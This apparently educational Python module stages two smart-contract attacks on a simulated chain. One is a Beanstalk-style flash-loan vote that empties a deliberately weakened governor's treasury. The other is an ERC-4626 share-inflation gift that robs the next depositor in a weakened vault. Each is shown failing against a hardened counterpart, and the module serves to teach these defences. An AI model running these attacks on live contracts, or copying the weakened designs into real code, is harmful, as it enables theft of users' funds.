"""Attacks on contracts that count tokens: votes that are borrowed, shares that are made dear."""

from __future__ import annotations

from collections.abc import Iterator

from pydemo.chain.accounts import Account
from pydemo.contract.chain import Chain
from pydemo.contract.handle import Contract
from pydemo.contract.receipt import Receipt
from pydemo.evm.hashing import keccak
from pydemo.messages import text
from pydemo.plans import dao, lending
from pydemo.plans import token as token_plan
from pydemo.stories.dao_proposal import propose
from pydemo.stories.step import Step, Table, refused, told
from pydemo.units import decimal, ether

UNITS = ether(1_000)
LENT = ether(700)
TREASURY = ether(100)
FOR = 1
AIM = "All for Ivan"
SAVED = ether(100)
GIFT = ether(100)
MUCH = ether(1_000_000)


def borrowed_votes(chain: Chain) -> Iterator[Step]:
    """Votes of a flash loan, as at Beanstalk: a treasury is emptied, and our governor's is not."""
    alice, ivan = chain.accounts.alice, chain.accounts.ivan
    token = chain.deploy("PoolToken", UNITS, alice, sender=alice)
    lender = chain.deploy("FlashLender", sender=alice)
    token.transfer(lender, LENT, sender=alice)
    raider = chain.deploy("Raider", sender=ivan)

    weak = chain.deploy("WeakenedGovernor", token, sender=alice)
    chain.transfer(weak, TREASURY, sender=alice)
    weak.propose(ivan, TREASURY, sender=ivan)
    calls = [weak.vote.data(0), weak.execute.data(0)]
    raided = raider.raid(lender, token, LENT, weak, calls, sender=ivan)
    yield told(
        chain,
        "break_it.votes",
        [raided],
        _treasury(chain.balance(weak), token.balanceOf(raider), weak.proposals(0).votes),
        lent=decimal(LENT),
        units=decimal(UNITS),
    )

    terms = dao.Terms(proposal_threshold=0)
    system = dao.deploy(chain, name="Pool DAO", token=token, deployer=alice, terms=terms)
    governor, treasury = system.governor, system.timelock
    chain.transfer(treasury, TREASURY, sender=alice)
    proposal = propose(chain, governor, [(ivan, TREASURY, b"")], AIM, proposer=ivan, shown=decimal)
    proposal.open_the_vote()
    vote = governor.castVote.data(proposal.number, FOR)
    queue = governor.queue.data([ivan], [TREASURY], [b""], keccak(AIM.encode()))
    raid = raider.raid
    too_early = refused(
        chain, lambda: raid(lender, token, LENT, governor, [vote, queue], sender=ivan)
    )
    voted = raid(lender, token, LENT, governor, [vote], sender=ivan)
    proposal.close_the_vote()
    _, in_favour, _ = governor.proposalVotes(proposal.number)
    yield told(
        chain,
        "break_it.votes_stopped",
        [too_early, voted],
        _treasury(chain.balance(treasury), token.balanceOf(raider), in_favour),
        state=proposal.state,
    )


def dear_shares(chain: Chain) -> Iterator[Step]:
    """A gift that makes shares dear: the next one to pay in is robbed, but not in our pool."""
    alice = chain.accounts.alice
    token = token_plan.deploy(chain, deployer=alice, minter=alice).token
    weak = chain.deploy("WeakenedVault", token, sender=alice)
    pool = lending.deploy(chain, token, deployer=alice, price_setter=alice).pool
    for key, vault in (("shares", weak), ("shares_stopped", pool)):
        people = {name: chain.accounts[name] for name in ("ivan", "grace")}
        for account in people.values():
            token.mint(account, SAVED + GIFT, sender=alice)
            token.approve(vault, MUCH, sender=account)
        had = {name: token.balanceOf(account) for name, account in people.items()}
        ivan, grace = people.values()
        done = [
            vault.deposit(1, ivan, sender=ivan),
            token.transfer(vault, GIFT, sender=ivan),
            vault.deposit(SAVED, grace, sender=grace),
        ]
        shares = {name: vault.balanceOf(account) for name, account in people.items()}
        for name, account in people.items():
            if shares[name]:
                done.append(_redeem_all(vault, account))
        rows = tuple(
            (name, f"{shares[name]:,}", _signed(token.balanceOf(account) - had[name]))
            for name, account in people.items()
        )
        columns = (text("break_it.who"), text("break_it.share_count"), text("break_it.gain"))
        yield told(
            chain,
            f"break_it.{key}",
            done,
            Table(columns, rows),
            gift=decimal(GIFT),
            saved=decimal(SAVED),
        )


def _redeem_all(vault: Contract, account: Account) -> Receipt:
    """Both vaults have the function, one of them with an owner (ERC-4626)."""
    shares = vault.balanceOf(account)
    owner = [account] if vault.contract_name == "LendingPool" else []
    receipt: Receipt = vault.redeem(shares, account, *owner, sender=account)
    return receipt


def _treasury(ether_left: int, units: int, votes: int) -> Table:
    return Table(
        (text("break_it.treasury"), text("break_it.raider_units"), text("break_it.counted")),
        ((f"{decimal(ether_left)} ETH", decimal(units), decimal(votes)),),
    )


def _signed(units: int) -> str:
    return f"+{decimal(units)}" if units > 0 else decimal(units)
